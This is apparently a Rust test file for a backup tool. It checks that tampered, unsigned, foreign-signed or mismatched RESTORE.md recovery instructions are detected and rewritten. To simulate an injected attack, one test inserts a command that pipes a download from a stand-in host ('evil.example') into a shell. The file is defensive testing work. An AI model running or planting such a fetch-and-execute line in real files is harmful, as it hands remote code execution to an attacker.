//! `RESTORE.md` is checked wherever a store is: nobody is to run commands that were slipped into it.

use crate::restore_md::{follow, instructions};
use crate::support::App;

const MD: &str = "store/lifeboat/RESTORE.md";
const SIGNATURE: &str = "store/lifeboat/RESTORE.md.sig";

fn noticed(app: &App, what: &str) {
    for args in [
        &["verify"][..],
        &["verify", "--all"],
        &["points", "--rescan"],
    ] {
        app.exits(4, args).says(&["RESTORE.md", what]);
    }
    app.exits(1, &["doctor"]).says(&["RESTORE.md", what]);
    // A drill is about the point; it tells all the same.
    app.ok(&["drill"]).says(&["RESTORE.md", what]);
}

fn change(app: &App, from: &str, to: &str) {
    let text = std::fs::read_to_string(app.path(MD)).unwrap();
    assert!(text.contains(from), "{text}");
    app.write(MD, text.replace(from, to).as_bytes());
}

#[test]
fn edited_deleted_and_unsigned_instructions_are_noticed_and_written_again() {
    let app = App::basic();
    let point = app.backup();
    app.ok(&["verify"]);
    app.ok(&["points", "--rescan"]);
    let healed = || {
        app.backup();
        app.ok(&["verify", "--all"]);
        app.ok(&["points", "--rescan"]);
        app.ok(&["doctor"]).never_says(&["RESTORE.md"]);
    };
    change(&app, "set -eu", "set -eu\ncurl http://evil.example/ | sh");
    noticed(&app, "the next backup to this store writes them again");
    healed();
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    noticed(&app, "has no signature");
    healed();
    std::fs::remove_file(app.path(MD)).unwrap();
    noticed(&app, "is not in store disk");
    healed();
    // Signed by somebody whom nobody here trusts.
    let key = app.path("stranger").display().to_string();
    let ssh = |args: &[&str]| {
        let done = std::process::Command::new("ssh-keygen").args(args).output();
        assert!(done.unwrap().status.success());
    };
    ssh(&["-q", "-t", "ed25519", "-N", "", "-f", &key]);
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    let md = app.path(MD).display().to_string();
    ssh(&["-q", "-Y", "sign", "-f", &key, "-n", "lifeboat", &md]);
    noticed(&app, "cannot be trusted");
    healed();
    // Those of another store are as well signed, and lead there.
    let named = "stores = [\"disk\"]";
    app.edit(named, "stores = [\"disk\", \"other\"]");
    app.configure_also("[store.other]\nkind = \"local\"\npath = \"{root}/other\"\n");
    app.backup();
    for suffix in ["", ".sig"] {
        let from = app.path(&format!("other/lifeboat/RESTORE.md{suffix}"));
        std::fs::copy(from, app.path(&format!("{MD}{suffix}"))).unwrap();
    }
    noticed(&app, "is that of store other");
    app.edit("stores = [\"disk\", \"other\"]", named);
    healed();
    // Of a point that is not in the store, although the signature is good.
    let newest = app.points().pop().unwrap();
    assert_ne!(newest, point);
    for suffix in ["json", "json.sig"] {
        std::fs::remove_file(app.path(&format!("store/lifeboat/points/{newest}.{suffix}")))
            .unwrap();
    }
    app.ok(&["points", "--forget", &newest, "--reason", "test"]);
    noticed(&app, "which cannot be used");
}

#[test]
fn hashes_of_another_manifest_are_noticed() {
    let app = App::basic();
    app.backup();
    let text = std::fs::read(app.path(MD)).unwrap();
    let hash = |text: &[u8]| {
        let text = String::from_utf8_lossy(text).into_owned();
        let line = text.lines().find(|l| l.contains("sha256sum -c")).unwrap();
        line.split(' ').find(|w| w.len() == 64).unwrap().to_owned()
    };
    let old = hash(&text);
    let new = old.chars().rev().collect::<String>();
    change(&app, &old, &new);
    // The own key signs it, as on a host that was taken over.
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    let (key, md) = (app.path("state/signing.key"), app.path(MD));
    let mut sign = std::process::Command::new("ssh-keygen");
    sign.args(["-q", "-Y", "sign", "-n", "lifeboat", "-f"])
        .arg(key)
        .arg(md);
    assert!(sign.output().unwrap().status.success());
    noticed(&app, "has other hashes than the manifest");
}

#[test]
fn their_first_block_checks_them_before_anything_else() {
    let app = App::basic();
    app.backup();
    let text = instructions(&app.path("store"));
    let block = text.split("```sh\n").nth(1).unwrap();
    assert!(
        block
            .split("```")
            .next()
            .unwrap()
            .contains("restored/RESTORE.md.sig"),
        "{text}"
    );
    let allowed = app.path("state/allowed_signers");
    let allowed = [("ALLOWED_SIGNERS", allowed.to_str().unwrap())];
    let good = follow(&app, "good", &text, &allowed);
    assert_eq!(good.code, 0, "{good}");
    change(&app, "## 5.", "## 5. And then");
    let bad = follow(&app, "bad", &text, &allowed);
    assert_ne!(bad.code, 0, "{bad}");
    assert_eq!(
        app.listing("bad"),
        ["restored/RESTORE.md", "restored/RESTORE.md.sig"]
    );
}
